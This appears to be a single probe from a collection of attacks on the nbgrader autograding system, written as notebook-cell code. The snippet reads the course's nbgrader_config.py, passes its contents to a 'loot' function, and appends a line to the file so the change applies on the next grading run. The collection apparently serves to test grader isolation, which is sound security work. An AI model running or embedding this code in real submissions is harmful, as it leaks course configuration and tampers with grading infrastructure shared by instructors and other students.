# idea: The course's configuration gets a line that takes effect with the next run.
# aims at: host|others|leak
# %% before t01
#@ground
path = GROUND / "nbgrader_config.py"
if path.is_file():
    loot(path.read_text())
    try:
        with path.open("a") as file:
            file.write("\n# changed by a submission\n")
    except OSError as error:
        print(error)
